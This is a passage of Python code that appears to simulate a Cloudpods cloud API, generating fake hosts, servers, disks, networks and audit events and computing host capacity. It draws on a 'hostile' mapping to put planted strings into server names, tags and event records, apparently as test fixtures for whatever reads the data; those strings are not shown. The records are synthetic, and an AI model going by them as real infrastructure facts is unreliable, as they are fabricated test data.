        rec = self._owned(self._base("networks", i), 0)
        rec.update(
            id=x["id"],
            name=x["name"],
            status="available",
            guest_ip_start=f"{x['prefix']}.2",
            guest_ip_end=f"{x['prefix']}.254",
            guest_ip_mask=24,
            guest_gateway=f"{x['prefix']}.1",
            guest_dns="114.114.114.114",
            vlan_id=1,
            server_type="guest",
            wire_id=w["id"],
            wire=w["name"],
            vpc_id=v["id"],
            vpc=v["name"],
            zone_id=z["id"],
            zone=z["name"],
            is_public=x["public"],
            public_scope="system" if x["public"] else "none",
            alloc_policy="none",
            ports=253,
            ports_used=0,
            vnics=0,
            total=253,
        )
        return rec

    # -- host capacity: computed from the current servers, once per servers version ------
    def host_usage(self) -> dict[str, list]:
        """Per host: guest counts and the vCPU/memory committed by its **running** guests.

        As the region computes them (``hosts.go``: ``FetchGuestCnt``, and the commit sums of
        ``fetchHostGuestResource`` with ``IgnoreNonrunningGuests``, on by default): pending
        deleted guests count apart; ``cpu_commit``/``mem_commit`` sum running guests only,
        pending-deleted running ones included (cloudpods-api.md §10).
        Recomputed when the servers table changes (patches, deletions, creations).
        """
        servers = self.tables["servers"]
        version = servers.version
        cached = self._usage
        if cached is not None and cached[0] == version:
            return cached[1]
        with self._usage_lock:
            cached = self._usage
            if cached is not None and cached[0] == version:
                return cached[1]
            usage = self._compute_usage(servers)
            self._usage = (version, usage)
            return usage

    def _compute_usage(self, servers: Table) -> dict[str, list]:
        n_hosts = len(self.host_zone)
        with servers.lock:
            base = servers.base_count
            count = servers.count
            patched = {i: servers.record(i) for i in servers.patches}
            deleted = set(servers.deleted)
        cols = self.server_cols
        host = np.where(np.array(cols["placed"], bool), np.array(self.server_host), -1)
        status = np.array([_STATUSES[s] for s in cols["status"]], dtype=object)
        vcpu = np.array(cols["vcpu"], dtype=np.int64)
        vmem = np.array(cols["vmem"], dtype=np.int64)
        disk = np.array(cols["sysdisk"], dtype=np.int64) + np.array(cols["datadisk"], np.int64)
        pending = np.zeros(base, dtype=bool)
        extra = [i for i in range(base, count)]
        if extra:
            host = np.concatenate([host, np.full(len(extra), -1)])
            status = np.concatenate([status, np.full(len(extra), "", dtype=object)])
            vcpu = np.concatenate([vcpu, np.zeros(len(extra), np.int64)])
            vmem = np.concatenate([vmem, np.zeros(len(extra), np.int64)])
            disk = np.concatenate([disk, np.zeros(len(extra), np.int64)])
            pending = np.concatenate([pending, np.zeros(len(extra), bool)])
        for i, rec in patched.items():
            h = self._host_ids.get(str(rec.get("host_id") or ""), -1)
            host[i] = h
            status[i] = str(rec.get("status") or "")
            vcpu[i] = int(rec.get("vcpu_count") or 0)
            vmem[i] = int(rec.get("vmem_size") or 0)
            disk[i] = int(rec.get("disk") or 0)
            pending[i] = bool(rec.get("pending_deleted"))
        if deleted:
            host[list(deleted)] = -1
        on = host >= 0
        live = on & ~pending
        running = live & (status == "running")
        ready = live & (status == "ready")
        # a pending-deleted running guest still holds its CPUs and memory on the host: it
        # counts in cpu_commit/mem_commit but not in running_guests (cloudpods-api.md §10)
        committed = on & (status == "running")

        def per_host(mask: np.ndarray, weights: np.ndarray | None = None) -> list[int]:
            w = None if weights is None else weights[mask]
            return np.bincount(host[mask], weights=w, minlength=n_hosts).astype(np.int64).tolist()

        return {
            "guests": per_host(live),
            "running": per_host(running),
            "ready": per_host(ready),
            "other": per_host(live & ~running & ~ready),
            "pending_deleted": per_host(on & pending),
            "vcpu": per_host(committed, vcpu),
            "vmem": per_host(committed, vmem),
            "disk": per_host(on, disk),
        }

    def _host_join(self, h: int) -> dict:
        """The host fields a server on host ``h`` carries with details (HostResourceInfo),
        joined from the hosts table as it is now: a renamed host shows its new name at once
        while the servers' rows (``updated_at``) do not change (cloudpods-api.md §10); a
        deleted host joins nothing (the join reads live hosts only)."""
        hosts = self.tables["hosts"]
        if h in hosts.deleted:
            return {}
        patch, zi = hosts.patches.get(h) or {}, self.host_zone[h]
        if "zone_id" in patch:
            zi = next((k for k, z in enumerate(self.zones) if z["id"] == patch["zone_id"]), zi)
        z = self.zones[zi]
        c = self.cloudregions[z["cr"]]
        online = self._host_status[h] == 0
        rec = {
            "host": self._host_name(h),
            "host_access_ip": self._host_ip(h),
            "host_access_mac": self._host_mac(h),
            "host_billing_type": "postpaid",
            "host_enabled": online,
            "host_resource_type": "shared",
            "host_service_status": "online" if online else "offline",
            "host_sn": f"SN{self.seed:02d}{h:08d}",
            "host_status": "running" if online else "unknown",
            "host_type": _host_type(c["hypervisor"]),
            "zone": z["name"],
            "zone_id": z["id"],
            "cloudregion": c["name"],
            "cloudregion_id": c["id"],
            "region": c["name"],
            "region_id": c["id"],
            "brand": c["brand"],
            "provider": c["provider"],
            "cloud_env": c["cloud_env"],
        }
        if c["provider"] != "OneCloud":
            name = f"{c['provider'].lower()}-account"
            rec.update(
                manager=name,
                manager_id=make_id(self.seed, "cloudprovider", self._account_index(c)),
                account=name,
                account_id=make_id(self.seed, "cloudaccount", self._account_index(c)),
            )
        if patch:
            rec.update({joined: patch[col] for col, joined in _HOST_JOIN.items() if col in patch})
        return rec

    def _account_index(self, c: dict) -> int:
        return [x["idx"] for x in self.cloudregions if x["provider"] != "OneCloud"].index(c["idx"])

    def _host_name(self, h: int) -> str:
        return f"host-{self.zones[self.host_zone[h]]['name']}-{h:05d}"

    def _host_ip(self, h: int) -> str:
        cr = self.zones[self.host_zone[h]]["cr"]
        return f"172.{16 + cr}.{(h // 250) % 250}.{h % 250 + 1}"

    def _host_mac(self, h: int) -> str:
        return f"00:16:3e:{(h >> 16) & 255:02x}:{(h >> 8) & 255:02x}:{h & 255:02x}"

    def _host(self, i: int) -> dict:
        zi = self.host_zone[i]
        z = self.zones[zi]
        c = self.cloudregions[z["cr"]]
        use = self.host_usage()
        cpu, mem, reserved = self.host_cpu[i], self.host_mem[i], self.host_mem_reserved[i]
        cpu_bound, mem_bound = self.host_cpu_bound[i], self.host_mem_bound[i]
        storage = _HOST_STORAGE
        online = self._host_status[i] == 0
        # GetCpuCount / GetMemSize: the reserved amount is taken off when it is set
        usable_mem = mem - reserved if 0 < reserved < mem else mem
        cpu_commit, mem_commit = use["vcpu"][i], use["vmem"][i]
        used = use["disk"][i]
        rec = self._base("hosts", i)
        rec.update(
            id=make_id(self.seed, "host", i),
            name=self._host_name(i),
            hostname=self._host_name(i),
            status="running" if online else "unknown",
            enabled=online,
            host_status="online" if online else "offline",
            host_type=_host_type(c["hypervisor"]),
            access_ip=self._host_ip(i),
            access_mac=self._host_mac(i),
            sn=f"SN{self.seed:02d}{i:08d}",
            cpu_count=cpu,
            cpu_reserved=0,
            cpu_mhz=2600,
            cpu_cache=0,
            cpu_cmtbound=cpu_bound,
            cpu_usage_percent=0,
            node_count=2,
            mem_size=mem,
            mem_reserved=reserved,
            mem_cmtbound=_number(mem_bound),
            memory_used_mb=0,
            page_size_kb=4,
            kvm_cap_max_vcpu=0,
            storage_size=storage,
            storage_type="ssd",
            root_partition_used_capacity_mb=0,
            zone_id=z["id"],
            zone=z["name"],
            region=c["name"],
            region_id=c["id"],
            **_placement(c),
            account_read_only=False,
            allow_health_check=False,
            auto_migrate_on_host_down=False,
            auto_migrate_on_host_shutdown=False,
            auto_renew=False,
            billing_type="postpaid",
            can_prepare=False,
            enable_numa_allocate=False,
            enable_pxe_boot=True,
            is_baremetal=False,
            is_import=False,
            is_maintenance=False,
            is_prepaid_recycle=False,
            is_public=False,
            public_scope="system",
            resource_type="shared",
            isolated_device_count=0,
            nic_count=0,
            progress=100,
            source="local",
            server_pending_deleted=False,
            guests=use["guests"][i],
            backup_guests=0,
            running_guests=use["running"][i],
            ready_guests=use["ready"][i],
            other_guests=use["other"][i],
            pending_deleted_guests=use["pending_deleted"][i],
            nonsystem_guests=use["guests"][i],
            cpu_commit=cpu_commit,
            mem_commit=mem_commit,
            cpu_commit_rate=_number(cpu_commit / cpu if cpu and cpu_commit else 0),
            mem_commit_rate=_number(mem_commit / usable_mem if usable_mem and mem_commit else 0),
            cpu_commit_bound=cpu_bound,
            mem_commit_bound=_number(mem_bound),
            storage=storage,
            storage_used=used,
            actual_storage_used=used * 3 // 5,
            storage_free=storage - used,
            storage_virtual=storage,
            storage_waste=0,
            storage_commit_rate=_number(used / storage),
            spec={"cpu": cpu, "mem": mem, "nic_count": 0},
            project_domain="Default",
            domain_id=DOMAIN_DEFAULT,
            update_version=2,
        )
        return rec

    def _storage(self, i: int) -> dict:
        zi = self.host_zone[i]
        z = self.zones[zi]
        c = self.cloudregions[z["cr"]]
        cap = _HOST_STORAGE
        use = self.host_usage()
        used = use["disk"][i]
        rec = self._base("storages", i)
        rec.update(
            id=make_id(self.seed, "storage", i),
            name=f"local-{z['name']}-{i:05d}",
            status="online",
            enabled=True,
            capacity=cap,
            storage_type="local" if c["hypervisor"] == "kvm" else "cloud_ssd",
            medium_type="ssd" if i % 3 else "rotate",
            zone_id=z["id"],
            zone=z["name"],
            cloudregion_id=c["id"],
            cloudregion=c["name"],
            used_capacity=used,
            free_capacity=cap - used,
            cmtbound=1,
            hosts=1,
            disk_count=use["guests"][i] + use["pending_deleted"][i],
            domain_id=DOMAIN_DEFAULT,
        )
        return rec

    def server_id(self, i: int) -> str:
        return make_id(self.seed, "server", i)

    def _server_name(self, i: int) -> str:
        cols = self.server_cols
        return (
            self.hostile.get(i)
            or self.duplicates.get(i)
            or f"{_PREFIXES[cols['prefix'][i]]}-{_ENVS[cols['env'][i]]}-{i:07d}"
        )

    def _server_ident(self, i: int) -> tuple[str, str]:
        return self.server_id(i), self._server_name(i)

    def _server_field(self, name: str) -> Callable[[int], object] | None:
        """A fast getter of one field of the generated servers (no record is built)."""
        cols = self.server_cols
        if name == "status":
            return lambda i: _STATUSES[cols["status"][i]]
        if name == "vcpu_count":
            return cols["vcpu"].__getitem__
        if name == "vmem_size":
            return cols["vmem"].__getitem__
        if name == "name":
            return self._server_name
        if name == "id":
            return self.server_id
        if name == "created_at":
            created = self._server_created
            return lambda i: fmt_time(created[i])
        if name == "tenant_id":
            owner, projects = self._server_owner, self.projects
            return lambda i: projects[owner[i]].id
        hosts, placed = self.server_host, cols["placed"]
        if name == "host_id":
            ids = [make_id(self.seed, "host", h) for h in range(len(self.host_zone))]
            return lambda i: ids[hosts[i]] if placed[i] else None
        if name == "hypervisor":
            by_host = [self.cloudregions[self.zones[z]["cr"]]["hypervisor"] for z in self.host_zone]
            return lambda i: by_host[hosts[i]]
        if name in ("pending_deleted", "deleted"):
            return lambda i: False
        if name == "disk":  # a detail field, for summary_stats
            sysdisk, datadisk = cols["sysdisk"], cols["datadisk"]
            return lambda i: sysdisk[i] + datadisk[i] if placed[i] else 0
        if name == "disk_count":
            datadisk = cols["datadisk"]
            return lambda i: (1 + bool(datadisk[i])) if placed[i] else 0
        return None

    def _server_columns(self, i: int) -> dict:
        """Row ``i`` of the guests table: what ``details=false`` returns (sparse)."""
        cols = self.server_cols
        h = self.server_host[i]
        c = self.cloudregions[self.zones[self.host_zone[h]]["cr"]]
        status = _STATUSES[cols["status"][i]]
        proj = self.projects[self._server_owner[i]]
        created = self._server_created[i]
        sid = self.server_id(i)
        vcpu = cols["vcpu"][i]
        rec = {
            "auto_renew": False,
            "backup_guest_status": "init",
            "billing_type": "postpaid",
            "boot_order": "cdn",
            "cpu_sockets": 1,
            "created_at": fmt_time(created),
            "deleted": False,
            "disable_delete": True,
            "domain_id": proj.domain_id,
            "extra_cpu_count": 0,
            "freezed": False,
            "health_status": "ok",
            "hostname": f"vm{i}",
            "hypervisor": c["hypervisor"],
            "id": sid,
            "internet_max_bandwidth_out": 0,
            "is_daemon": False,
            "is_emulated": False,
            "is_system": False,
            "name": self._server_name(i),
            "os_type": _OS[cols["os"][i]][0],
            "pending_deleted": False,
            "power_states": _POWER.get(status, "unknown"),
            "progress": 100,
            "progress_mbps": 0,
            "project_src": "local",
            "qga_status": "unknown",
            "rescue_mode": False,
            "secgrp_id": make_id(self.seed, "secgroup", i % 12),
            "shutdown_behavior": "stop",
            "shutdown_mode": "keep_charging",
            "source": "local",
            "src_ip_check": True,
            "src_mac_check": True,
            "sshable_last_state": False,
            "status": status,
            "tenant_id": proj.id,
            "throughput": 0,
            "update_version": 2,
            "updated_at": fmt_time(cols["updated"][i]),
            "vcpu_count": vcpu,
            "vmem_size": cols["vmem"][i],
        }
        if cols["placed"][i]:
            rec["host_id"] = make_id(self.seed, "host", h)
        if c["provider"] != "OneCloud":
            rec["instance_type"] = f"ecs.g6.{_size_name(vcpu)}"
            rec["external_id"] = f"i-{sid[:8]}{sid[24:]}"
        else:  # the SKU the server was made from, as the region names them
            rec["instance_type"] = f"ecs.g1.c{vcpu}m{cols['vmem'][i] // 1024}"
        if cols["described"][i]:
            rec["description"] = (
                f"{_PREFIXES[cols['prefix'][i]]} node, owner {_OWNERS[cols['who'][i]]}"
            )
        if cols["prepaid"][i]:
            rec["billing_type"] = "prepaid"
            # a month-multiple term from creation, some already past (expired)
            rec["expired_at"] = fmt_time(created + 86400 * 30 * (12 + i % 37))
            rec["auto_renew"] = bool(i % 2)
        return rec

    def _server(self, i: int) -> dict:
        """The full (details=true) record: the table row plus the joined fields."""
        rec = self._server_columns(i)
        cols = self.server_cols
        h = self.server_host[i]
        zi = self.host_zone[h]
        z = self.zones[zi]
        c = self.cloudregions[z["cr"]]
        v = self.vpcs[z["cr"]]
        net = self.networks[zi * 2 + cols["net"][i]]
        os_name = _OS[cols["os"][i]][1]
        proj = self.projects[self._server_owner[i]]
        rec.update(
            account_read_only=False,
            can_delete=False,  # disable_delete is on, as on every real server
            can_recycle=False,
            can_update=True,
            cdrom_support=c["hypervisor"] == "kvm",
            floppy_support=c["hypervisor"] == "kvm",
            disks_snapshotpolicy_count=0,
            snapshotpolicy_count=0,
            is_gpu=cols["gpu"][i],
            is_prepaid_recycle=False,
            os_name=os_name,
            tenant=proj.name,
            project=proj.name,
            project_domain=self.domain_name(proj.domain_id),
        )
        if not cols["placed"][i]:
            # never scheduled: no host, zone or region at all, no disks or NICs yet
            rec.update(
                brand="Unknown", provider="Unknown", disk=0, disk_count=0, host_enabled=False
            )
            rec["secgroups"] = [
                {"id": rec["secgrp_id"], "name": f"sg-{i % 12:02d}"},
            ]
            return rec
        rec.update(self._host_join(h))
        sysdisk, datadisk = cols["sysdisk"][i], cols["datadisk"][i]
        ip = f"{net['prefix']}.{2 + (i * 7) % 250}"
        mac = (
            f"00:22:{(i >> 24) & 255:02x}:{(i >> 16) & 255:02x}:{(i >> 8) & 255:02x}:{i & 255:02x}"
        )
        name = rec["name"]
        disks = [
            {
                "id": make_id(self.seed, "disk", i),
                "name": f"{name}-sys"[:64],
                "size": sysdisk,
                "disk_type": "sys",
                "storage_type": "local",
                "medium_type": "ssd",
                "index": 0,
                "image": os_name,
                "driver": "virtio",
            }
        ]
        if datadisk:
            disks.append(
                {
                    "id": make_id(self.seed, "datadisk", i),
                    "name": f"{name}-data"[:64],
                    "size": datadisk,
                    "disk_type": "data",
                    "storage_type": "local",
                    "medium_type": "rotate",
                    "index": 1,
                    "driver": "virtio",
                }
            )
        rec.update(
            disk=sysdisk + datadisk,
            disk_count=len(disks),
            disks_info=disks,
            ips=ip,
            macs=mac,
            nics=[
                {
                    "ip_addr": ip,
                    "mac": mac,
                    "network_id": net["id"],
                    "network": net["name"],
                    "vpc_id": v["id"],
                    "ifname": "eth0",
                    "is_default": True,
                    "index": 0,
                }
            ],
            vpc=v["name"],
            vpc_id=v["id"],
            secgroups=[{"id": rec["secgrp_id"], "name": f"sg-{i % 12:02d}"}],
            monitor_url="http://169.254.169.254/monitor",
        )
        return rec

    def _server_meta(self, i: int) -> dict:
        """Tags (metadata) of server ``i``; about half of the servers have some."""
        cols = self.server_cols
        if not cols["tagged"][i] and i not in self.hostile:
            return {}
        meta = {
            "env": _ENVS[cols["env"][i]],
            "owner": _OWNERS[cols["who"][i]],
            "app": _PREFIXES[cols["prefix"][i]],
        }
        if i in self.hostile:
            meta["note"] = self.hostile[i]
        return meta

    def _disk(self, j: int) -> dict:
        s, data = self._disk_rows[j]
        srv, h = self._server(s), self.server_host[s]  # a deleted host joins no zone
        d = srv["disks_info"][1 if data else 0]
        rec = self._base("disks", j)
        rec.update(
            id=d["id"],
            name=d["name"],
            status="ready",
            disk_size=d["size"],
            disk_format="qcow2",
            disk_type=d["disk_type"],
            fs_format="ext4",
            storage_type=d["storage_type"],
            medium_type=d["medium_type"],
            storage_id=make_id(self.seed, "storage", h),
            storage=f"local-{self.zones[self.host_zone[h]]['name']}-{h:05d}",
            guest=srv["name"],
            guest_id=srv["id"],
            guests=[{"id": srv["id"], "name": srv["name"], "status": srv["status"]}],
            guest_count=1,
            guest_status=srv["status"],
            zone=srv.get("zone"),
            zone_id=srv.get("zone_id"),
            cloudregion=srv.get("cloudregion"),
            cloudregion_id=srv.get("cloudregion_id"),
            billing_type="postpaid",
            is_ssd=d["medium_type"] == "ssd",
            iops=3000 if d["medium_type"] == "ssd" else 500,
            throughput=150,
            brand=srv.get("brand"),
            provider=srv.get("provider"),
        )
        if not data:
            rec["template_id"] = make_id(self.seed, "image", s % 15)
        return self._owned(rec, self._server_owner[s])

    def _eip(self, i: int) -> dict:
        s = self._eip_server[i]
        srv = self._server(s)
        rec = self._base("eips", i)
        rec.update(
            id=make_id(self.seed, "eip", i),
            name=f"eip-{i:05d}",
            status="ready",
            ip_addr=f"47.{(i >> 16) & 255}.{(i >> 8) & 255}.{i & 255}",
            bandwidth=[1, 5, 10, 100][i % 4],
            charge_type="traffic",
            mode="elastic_ip",
            associate_type="server",
            associate_id=srv["id"],
            associate_name=srv["name"],
            cloudregion=srv.get("cloudregion"),
            cloudregion_id=srv.get("cloudregion_id"),
            brand=srv.get("brand"),
            provider=srv.get("provider"),
        )
        return self._owned(rec, self.tables["eips"].owner[i])

    def _secgroup(self, i: int) -> dict:
        rec = self._base("secgroups", i)
        rec.update(
            id=make_id(self.seed, "secgroup", i),
            name=f"sg-{i:02d}",
            status="ready",
            guest_cnt=0,
            is_dirty=False,
            description="allow ssh and web" if i % 2 else "default",
        )
        return self._owned(rec, self.tables["secgroups"].owner[i])

    def _sku(self, i: int) -> dict:
        n = len(self._skus)
        cpu, mpc = self._skus[i % n]
        c = self.cloudregions[0 if i < n else 3]
        rec = self._base("serverskus", i)
        rec.update(
            id=make_id(self.seed, "sku", i),
            name=f"ecs.g{mpc // 1024}.{_size_name(cpu)}",
            status="ready",
            enabled=True,
            cpu_core_count=cpu,
            memory_size_mb=cpu * mpc,
            instance_type_family=f"g{mpc // 1024}",
            cloudregion_id=c["id"],
            cloudregion=c["name"],
            provider=c["provider"],
            sys_disk_type="local",
            local_category="general_purpose",
            postpaid_status="available",
            prepaid_status="available",
        )
        return rec

    def _event(self, i: int) -> dict:
        s = self._event_server[i]
        name = (
            (self.hostile.get(s) or f"{_PREFIXES[self.server_cols['prefix'][s]]}-{s:07d}")
            if self.n_servers
            else "x"
        )
        action = ("create", "start", "stop", "update", "sync_status", "delete")[i % 6]
        rec = {
            "id": i + 1,
            "obj_type": "server",
            "obj_id": self.server_id(s) if self.n_servers else "",
            "obj_name": name,
            "action": action,
            "notes": f'{{"status":"{action}"}}',
            "ops_time": fmt_time(self.tables["events"].created[i]),
            "start_time": fmt_time(self.tables["events"].created[i]),
            "user": "sysadmin",
            "user_id": self.users[0].id if self.users else "",
            "domain": "Default",
            "success": i % 17 != 0,
            "can_delete": False,
            "can_update": True,
        }
        return self._owned(rec, self.tables["events"].owner[i])

    def _action(self, i: int) -> dict:
        res = ("server", "host", "network", "disk")[i % 4]
        rec = {
            "id": i + 1,
            "obj_type": res,
            "obj_id": make_id(self.seed, res, i % max(self.n_servers, 1)),
            "obj_name": f"{res}-{i:05d}",
            "action": ("login", "create", "delete", "update")[i % 4],
            "notes": "",
            "service": "compute" if res != "network" else "compute",
            "ops_time": fmt_time(self.tables["actions"].created[i]),
            "start_time": fmt_time(self.tables["actions"].created[i]),
            "user": "sysadmin",
            "severity": ("INFO", "NOTICE", "WARNING")[i % 3],
            "kind": "NORMAL",
            "success": i % 23 != 0,
            "can_delete": False,
            "can_update": True,
        }
        return self._owned(rec, self.tables["actions"].owner[i])

    def _account(self, keyword: str, i: int) -> dict:
        c = self._accounts[i]
        rec = self._base(keyword + "s", i)
        name = f"{c['provider'].lower()}-account"
        rec.update(
            id=make_id(self.seed, keyword, i),
            name=name,
            status="connected",
            enabled=True,
            provider=c["provider"],
            brand=c["brand"],
            cloud_env=c["cloud_env"],
            health_status="normal",
            sync_status="idle",
            domain_id=DOMAIN_DEFAULT,
            last_sync=fmt_time(EPOCH_END),
        )
        if keyword == "cloudprovider":
            rec["cloudaccount_id"] = make_id(self.seed, "cloudaccount", i)
            rec["cloudaccount"] = name
        return rec

    def _image(self, i: int) -> dict:
        os_type, os_name = _OS[i % len(_OS)]
        fmt = ("qcow2", "raw", "vmdk")[i // len(_OS)]
        rec = self._owned(self._base("images", i), 0)
        rec.update(
            id=make_id(self.seed, "image", i),
            name=f"{os_name.lower().replace(' ', '-')}-{fmt}",
            status="active",
            size=(2 + i) * 1024**3 // 2,
            disk_format=fmt,
            checksum=hashlib.md5(f"{i}".encode()).hexdigest(),
            min_disk=30720,
            min_ram=512,
            is_public=True,
            public_scope="system",
            protected=True,
            is_standard=True,
            is_guest_image=False,
            is_data=False,
            os_arch="x86_64",
            properties={
                "os_type": os_type,
                "os_distribution": os_name.split()[0],
                "os_version": os_name.split()[-1],
            },
        )
        return rec


# Columns of the guests table (SGuest and its bases, CP pkg/compute/models/guests.go): what
# ``details=false`` returns, and the only fields ``filter=`` and ``order_by=`` act on.
SERVER_COLUMNS = frozenset(
    {
        "id", "name", "description", "status", "created_at", "updated_at", "update_version",
        "deleted", "deleted_at", "is_emulated", "domain_id", "tenant_id", "project_src",
        "is_system", "pending_deleted", "pending_deleted_at", "freezed", "progress", "source",
        "imported_at", "external_id", "billing_type", "billing_cycle", "expired_at",
        "release_at", "auto_renew", "disable_delete", "os_arch", "hostname", "host_id",
        "encrypt_key_id", "cpu_sockets", "vcpu_count", "vmem_size", "extra_cpu_count",
        "boot_order", "shutdown_behavior", "shutdown_mode", "keypair_id", "backup_host_id",
        "backup_guest_status", "progress_mbps", "vga", "vdi", "machine", "bios", "os_type",
        "flavor_id", "secgrp_id", "admin_secgrp_id", "src_ip_check", "src_mac_check",
        "hypervisor", "instance_type", "sshable_last_state", "is_daemon",
        "internet_max_bandwidth_out", "throughput", "qga_status", "power_states",
        "health_status", "rescue_mode", "last_start_at",
    }
)  # fmt: skip

# Columns of the hosts table a server's record joins (HostResourceInfo): column → server key.
_HOST_JOIN = {
    "name": "host", "access_ip": "host_access_ip", "access_mac": "host_access_mac",
    "enabled": "host_enabled", "host_status": "host_service_status", "status": "host_status",
    "sn": "host_sn", "host_type": "host_type", "billing_type": "host_billing_type",
    "resource_type": "host_resource_type",
}  # fmt: skip

# Host fields computed or joined by the region (HostDetails), not columns of the hosts table.
_HOST_DETAIL_FIELDS = frozenset(
    {
        "account_read_only", "actual_storage_used", "allow_health_check",
        "auto_migrate_on_host_down", "auto_migrate_on_host_shutdown", "backup_guests", "brand",
        "can_delete", "can_prepare", "can_update", "cloud_env", "cloudregion", "cloudregion_id",
        "cpu_commit", "cpu_commit_bound", "cpu_commit_rate", "guests", "is_prepaid_recycle",
        "isolated_device_count", "mem_commit", "mem_commit_bound", "mem_commit_rate",
        "nic_count", "nonsystem_guests", "other_guests", "pending_deleted_guests",
        "project_domain", "provider", "ready_guests", "region", "region_id", "running_guests",
        "server_pending_deleted", "spec", "storage", "storage_commit_rate", "storage_free",
        "storage_used", "storage_virtual", "storage_waste", "zone",
    }
)  # fmt: skip


def _number(x: float) -> int | float:
    """A float as Go's JSON writes it: whole values without a fraction (``8``, not ``8.0``)."""
    return int(x) if float(x).is_integer() else float(x)


def _placement(c: dict) -> dict:
    """The cloud-region fields every compute record repeats."""
    return {
        "cloudregion_id": c["id"],
        "cloudregion": c["name"],
        "provider": c["provider"],
        "brand": c["brand"],
        "cloud_env": c["cloud_env"],
    }


def _host_type(hypervisor: str) -> str:
    return {"kvm": "hypervisor", "esxi": "esxi"}.get(hypervisor, hypervisor)


def _size_name(vcpu: int) -> str:
    return {1: "large", 2: "xlarge", 4: "2xlarge", 8: "4xlarge", 16: "8xlarge", 32: "16xlarge"}[
        vcpu
    ]
